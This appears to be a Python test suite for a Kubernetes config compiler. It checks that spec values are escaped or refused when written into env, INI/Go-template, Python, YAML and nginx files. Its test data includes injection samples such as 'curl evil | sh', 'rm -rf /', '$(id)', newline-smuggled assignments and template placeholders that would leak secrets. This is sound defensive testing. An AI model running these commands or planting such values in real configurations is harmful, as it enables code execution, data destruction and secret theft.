"""Issue 17, class 2: a spec string written into another language arrives verbatim, or is refused at file:line:col.

Two layers, both tested per output language with generated values carrying that language's metacharacters:
- the spec's types (compiler/spec/model.py): a hostile value written into a spec is refused at its
  `environments/<file>.yaml:LINE:COL`, or compiles and arrives verbatim;
- the writers (compiler/escape.py through the templates' per-language finalize): a value the types would refuse,
  put into a spec object directly, still arrives verbatim in the parsed output (env literals as kustomize reads
  them, INI through configparser, Python through ast, YAML, the External Secrets template with exactly its own
  `{{ .key }}` placeholders), or compilation is refused with a one-line error naming the spec.
"""

from __future__ import annotations

import ast
import configparser
import datetime
import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from compiler import escape
from compiler.build.compile import compile_cluster, template_language
from compiler.catalog import BY_NAME
from compiler.errors import UserError
from compiler.render.kustomize import find
from compiler.spec.load import secret_problems, validate_document
from compiler.spec.model import Auth, ClusterSpec, L2cache
from compiler.spec.yamlio import load_document
from tests.support import REPO

FAST = settings(max_examples=25, deadline=None, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])
# Each language's metacharacters, and a few of everyone's, mixed with plain text.
META = ["\n", "\r", "\x00", "\x1b", "\u2028", "{{", "}}", "{", "}", "#", ";", "%", "%(x)s", "`", "```", "~~~",
        "<!--", "-->", "<b>", "'", '"', "\\", "$(id)", "${X}", "$x", "=", " ", "\t", "|", "[SETTINGS]", "X=1",
        "{{ .postgres_password }}", '{{"{{"}}', "# comment", "- item", "> quote"]
hostile = st.lists(st.one_of(st.sampled_from(META), st.text(min_size=1, max_size=4)), min_size=1, max_size=6
                   ).map("".join)
SECRET_KEYS = {"postgres_password", "slack_api_token"}


# --------------------------------------------------------------------------- helpers


def yaml_quoted(value: str) -> str:
    """`value` as a YAML double-quoted scalar (escapes for '\\', '"' and every non-printable character)."""
    def char(c: str) -> str:
        if c in '\\"':
            return "\\" + c
        if c.isprintable() and c not in "\u2028\u2029\x85":
            return c
        return f"\\u{ord(c):04x}" if ord(c) <= 0xFFFF else f"\\U{ord(c):08x}"
    return '"' + "".join(char(c) for c in value) + '"'


def spec_text(cluster: str) -> str:
    return (REPO / "environments" / f"{cluster}.yaml").read_text()


def load_with(tmp: Path, cluster: str, old: str, new: str) -> tuple[ClusterSpec | None, list[str], int, str]:
    """The spec with line `old` replaced by `new` (once): (spec or None, problems as printed, line of the edit,
    the file's display path)."""
    text = spec_text(cluster)
    assert text.count(old) == 1, old
    line = text[: text.index(old)].count("\n") + 1
    path = tmp / f"{cluster}.yaml"
    path.write_text(text.replace(old, new))
    display = f"environments/{cluster}.yaml"
    doc, problems = load_document(path, display)
    assert doc is not None, problems
    found, _ = secret_problems(doc)
    spec, invalid = validate_document(doc)
    return spec, [str(p) for p in [*problems, *found, *invalid]], line, display


def refused_at(problems: list[str], display: str, line: int) -> bool:
    return any(re.match(rf"{re.escape(display)}:{line}:\d+: ", p) for p in problems)


def base_spec(cluster: str) -> ClusterSpec:
    doc, problems = load_document(REPO / "environments" / f"{cluster}.yaml", f"environments/{cluster}.yaml")
    assert doc is not None, problems
    spec, invalid = validate_document(doc)
    assert spec is not None, invalid
    return spec


def with_service(spec: ClusterSpec, name: str, **changes: Any) -> ClusterSpec:
    svc = getattr(spec.services, name)
    services = spec.services.model_copy(update={name: svc.model_copy(update=changes)})
    return spec.model_copy(update={"services": services})


def kustomize_literal(literal: str) -> tuple[str, str]:
    """What kustomize makes of a configMapGenerator literal: the key before the first '=', the value after it
    with one pair of matching surrounding quotes removed (api/kv: parseLiteralSource, removeQuotes)."""
    key, _, value = literal.partition("=")
    if len(value) >= 2 and value[0] == value[-1] and value[0] in "\"'":
        value = value[1:-1]
    return key, value


def env_of(files: dict[str, bytes], name: str) -> dict[str, str]:
    kustomization = yaml.safe_load(files["kustomization.yaml"])
    generator = next(g for g in kustomization["configMapGenerator"] if g["name"] == name)
    pairs = [kustomize_literal(lit) for lit in generator["literals"]]
    assert len({k for k, _ in pairs}) == len(pairs), pairs
    return dict(pairs)


def go_template_run(template: str) -> tuple[str, list[str]]:
    """Execute an External Secrets template the way Go's text/template lexes it: `{{ "..." }}` prints the
    string, `{{ .key ... }}` is a secret placeholder (printed as <key>). Returns (output, placeholder keys)."""
    out: list[str] = []
    keys: list[str] = []
    pos = 0
    while (start := template.find("{{", pos)) != -1:
        out.append(template[pos:start])
        i = start + 2
        while True:  # to the closing delimiter, skipping string literals (Go's lexInsideAction)
            if template.startswith("}}", i):
                break
            if template[i] == '"':
                i += 1
                while template[i] != '"':
                    i += 2 if template[i] == "\\" else 1
            i += 1
            assert i < len(template), "unclosed action"
        action = template[start + 2: i].strip()
        if re.fullmatch(r'"(\\.|[^"\\])*"', action):
            out.append(json.loads(action))
        else:
            found = re.match(r"\.([A-Za-z_][A-Za-z0-9_]*)", action)
            assert found, f"unexpected action {action!r}"
            keys.append(found.group(1))
            out.append(f"<{found.group(1)}>")
        pos = i + 2
    out.append(template[pos:])
    return "".join(out), keys


def canary_config(files: dict[str, bytes]) -> str:
    docs = list(yaml.safe_load_all(files["secrets.yaml"]))
    es = next(d for d in docs if d["kind"] == "ExternalSecret" and d["metadata"]["name"] == "cavecanary-config")
    assert {d["secretKey"] for d in es["spec"]["data"]} == SECRET_KEYS
    return str(es["spec"]["target"]["template"]["data"]["config.cfg"])


def ini_settings(files: dict[str, bytes]) -> configparser.SectionProxy:
    text, keys = go_template_run(canary_config(files))
    assert sorted(keys) == sorted(SECRET_KEYS)  # exactly the template's own placeholders, once each
    parser = configparser.ConfigParser()  # what cavecanary uses: BasicInterpolation
    parser.read_string(text)
    assert parser.sections() == ["SETTINGS"]
    return parser["SETTINGS"]


def python_assignments(text: str) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for node in ast.parse(text).body:
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name):
            try:
                out[node.targets[0].id] = ast.literal_eval(node.value)
            except ValueError:
                continue
    return out


def refused_compile(spec: ClusterSpec, display: str) -> str:
    with pytest.raises(UserError) as err:
        compile_cluster(spec, display)
    message = str(err.value)
    assert message.startswith(f"{display}: ") and "\n" not in message.strip(), message
    return message


# --------------------------------------------------------------------------- the spec's types


@FAST
@given(value=hostile)
@example(value="10.82.0.3\nINJECTED=1")
def test_redis_host_is_a_host_or_refused_at_its_line(tmp_path: Path, value: str) -> None:
    spec, problems, line, display = load_with(tmp_path, "global", "  host: 10.82.0.3 ",
                                              f"  host: {yaml_quoted(value)} ")
    if spec is None:
        assert refused_at(problems, display, line), problems
        return
    env = env_of(compile_cluster(spec, display), "auth-env")
    assert env["REDISHOST"] == value and set(env) == {"AUTH_URL", "STICKY_AUTH_URL", "REDISHOST"}


@FAST
@given(value=hostile)
@example(value="alerts {{ .postgres_password }}")
@example(value="alerts\nSLACK_API_TOKEN = x")
def test_slack_channel_is_a_channel_name_or_refused_at_its_line(tmp_path: Path, value: str) -> None:
    spec, problems, line, display = load_with(tmp_path, "minnie", "    slack_channel: cave-alerts",
                                              f"    slack_channel: {yaml_quoted(value)}")
    if spec is None:
        assert refused_at(problems, display, line), problems
        return
    assert ini_settings(compile_cluster(spec, display))["SLACK_CHANNEL"] == value


@FAST
@given(value=hostile)
@example(value="Eve\n```sh\ncurl evil | sh\n```")
def test_admin_name_is_one_line_or_refused_at_its_line(tmp_path: Path, value: str) -> None:
    spec, problems, line, display = load_with(tmp_path, "global", "        name: CAVE Admin",
                                              f"        name: {yaml_quoted(value)}")
    if spec is None:
        assert refused_at(problems, display, line), problems
        return
    files = compile_cluster(spec, display)
    admins = python_assignments(files["configs/auth.config.cfg"].decode())["DEFAULT_ADMINS"]
    assert admins[0][1] == value


@pytest.mark.parametrize(("cluster", "old", "new"), [
    ("minnie", "  celery_host: 10.91.0.4 ", '  celery_host: "10.91.0.4\\nREDIS_HOST=evil" '),
    ("minnie", "  pcg_host: 10.91.0.5 ", '  pcg_host: "10.91.0.5 #x" '),
    ("minnie", "    slack_channel: cave-alerts", '    slack_channel: "alerts {{ .postgres_password }}"'),
    ("minnie", "      description: MICrONS minnie65 EM imagery, 4x4x40 nm",
     '      description: "imagery\\n```sh\\nrm -rf /\\n```"'),
    ("minnie", "        l2cache_id: l2cache_minnie3_v1", "        l2cache_id: 'l2: {x}'"),
    ("minnie", "annotation_excluded_groups: [default, minnie_general]",
     'annotation_excluded_groups: [default, "a\\u2028b"]'),
    ("global", "      - email: admin@cave-demo.org", "      - email: '`id`@cave-demo.org'"),
])
def test_hostile_values_are_refused_where_they_are_written(tmp_path: Path, cluster: str, old: str,
                                                           new: str) -> None:
    spec, problems, line, display = load_with(tmp_path, cluster, old, new)
    assert spec is None and refused_at(problems, display, line), problems


# --------------------------------------------------------------------------- the writers, past the types


@FAST
@given(value=hostile)
@example(value='"quoted"')
@example(value="a\nB=1")
def test_env_file_values_arrive_verbatim_or_are_refused(value: str) -> None:
    spec = base_spec("global")
    spec = spec.model_copy(update={"redis": spec.redis.model_copy(update={"host": value})})
    if escape.control_char(value):
        assert "cannot be written into its env file" in refused_compile(spec, "environments/global.yaml")
        return
    files = compile_cluster(spec, "environments/global.yaml")
    for name in ("auth-env", "sticky-auth-env"):
        env = env_of(files, name)
        assert env["REDISHOST"] == value and set(env) == {"AUTH_URL", "STICKY_AUTH_URL", "REDISHOST"}


@FAST
@given(value=hostile)
@example(value="alerts {{ .postgres_password }}")
@example(value="}}{{ .slack_api_token }}{{")
@example(value="100% {")
def test_external_secret_template_keeps_its_placeholders_and_the_value(value: str) -> None:
    spec = with_service(base_spec("minnie"), "cavecanary", slack_channel=value, datastack=value)
    if escape.control_char(value) or value != value.strip():
        assert "cannot be written into its ini-go file" in refused_compile(spec, "environments/minnie.yaml")
        return
    section = ini_settings(compile_cluster(spec, "environments/minnie.yaml"))
    assert (section["SLACK_CHANNEL"], section["DATASTACK_NAME"]) == (value, value)
    assert section["SLACK_API_TOKEN"] == "<slack_api_token>"


@FAST
@given(name=st.text(max_size=30), pi=hostile, group=hostile)
@example(name="x'''\nimport os\n'''", pi="\\", group="}")
def test_python_config_values_arrive_verbatim(name: str, pi: str, group: str) -> None:
    glob = base_spec("global")
    auth = glob.services.settings("auth", Auth)
    assert auth is not None
    admin = auth.default_admins[0].model_copy(update={"name": name, "pi": pi})
    glob = with_service(glob, "auth", default_admins=[admin])
    files = compile_cluster(glob, "environments/global.yaml")
    for config in ("configs/auth.config.cfg", "configs/sticky_auth.config.cfg"):
        assert python_assignments(files[config].decode())["DEFAULT_ADMINS"] == [[admin.email, name, pi]]
    local = base_spec("minnie").model_copy(update={"annotation_excluded_groups": [group]})
    files = compile_cluster(local, "environments/minnie.yaml")
    assert python_assignments(files["configs/materializationengine.config.cfg"].decode())[
        "AUTH_SHARED_EXCLUDED_GROUPS"] == [group]


@FAST
@given(value=hostile)
def test_yaml_values_arrive_verbatim(value: str) -> None:
    spec = base_spec("minnie")
    l2 = spec.services.settings("l2cache", L2cache)
    assert l2 is not None
    (graph, table), = l2.tables.items()
    spec = with_service(spec, "l2cache", tables={graph: table.model_copy(update={"l2cache_id": value})})
    files = compile_cluster(spec, "environments/minnie.yaml")
    assert yaml.safe_load(files["configs/l2cache.L2_table_map.yml"]) == {
        graph: {"cv_path": table.cv_path, "l2cache_id": value}}


def test_a_bare_value_in_python_or_yaml_must_go_through_its_filter() -> None:
    """A value printed without `| pyrepr` / `| tojson` is refused unless it is name-like (a template bug)."""
    with pytest.raises(escape.Unwritable, match=re.escape("with `| pyrepr`")):
        escape.python_bare("x'; import os; '")
    with pytest.raises(escape.Unwritable, match=re.escape("with `| tojson`")):
        escape.yaml_bare("a: b")
    assert escape.python_bare("minnie-prod") == "minnie-prod"
    assert {template_language("auth", "config.cfg", BY_NAME["auth"].configmaps[0]),
            template_language("cavecanary", "config.cfg", BY_NAME["cavecanary"].configmaps[0]),
            template_language("auth_info", "nginx.conf", BY_NAME["auth_info"].configmaps[0])} == {
        "python", "ini-go", "nginx"}


@settings(max_examples=60, deadline=None, database=None)
@given(value=st.text(max_size=20))
def test_nginx_strings_and_go_literals(value: str) -> None:
    printed, keys = go_template_run(escape.go_template_literal(value))
    assert (printed, keys) == (value, [])
    try:
        written = escape.nginx_quoted(value)
    except escape.Unwritable:
        assert escape.control_char(value) or set(value) & set("'\\$")
        return
    # an nginx single-quoted string ends at the next quote; nothing in it is a variable
    assert re.fullmatch(r"[^'$\\]*", written) and written == value


def test_env_literals_are_what_real_kustomize_reads(tmp_path: Path) -> None:
    """The env-file escaping checked against real kustomize once, with the values kustomize treats specially."""
    values = ['"quoted"', "'single'", '""', "a=b", "#x", " lead", "$(id)", "x;y", '"', "{{ .x }}", "%s"]
    literals = [escape.env_literal(f"K{i}", v) for i, v in enumerate(values)]
    (tmp_path / "kustomization.yaml").write_text(yaml.safe_dump({
        "configMapGenerator": [{"name": "t", "literals": literals}],
        "generatorOptions": {"disableNameSuffixHash": True}}))
    tool = find()
    out = subprocess.run([*tool.command, str(tmp_path)], capture_output=True, text=True, check=True,
                         env={**dict(tool.env), "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}).stdout
    assert yaml.safe_load(out)["data"] == {f"K{i}": v for i, v in enumerate(values)}


def test_examples_compile_unchanged_through_the_escapes() -> None:
    """The example specs hold no value any writer changes: the committed overlays are what they compile to."""
    for cluster in ("global", "minnie", "fanc"):
        files = compile_cluster(base_spec(cluster), f"environments/{cluster}.yaml")
        for rel, data in files.items():
            assert (REPO / "overlays" / cluster / rel).read_bytes() == data, rel


@pytest.mark.parametrize("value", [float("inf"), float("-inf"), float("nan"), [1.0, {"k": float("nan")}]])
def test_python_configs_get_no_bare_inf_or_nan(value: Any) -> None:
    """repr(inf) is `inf`, a name Python config files do not define: the spec refuses it (finite floats only),
    and pyrepr refuses it too, as a second line of defence."""
    with pytest.raises(escape.Unwritable, match="is not a finite number"):
        escape.pyrepr(value)
    with pytest.raises(escape.Unwritable, match="cannot write a date as a Python literal"):
        escape.pyrepr({"d": datetime.date(2024, 1, 1)})
    assert escape.pyrepr([1.5, -2.0, 1e300]) == "[1.5, -2.0, 1e+300]"
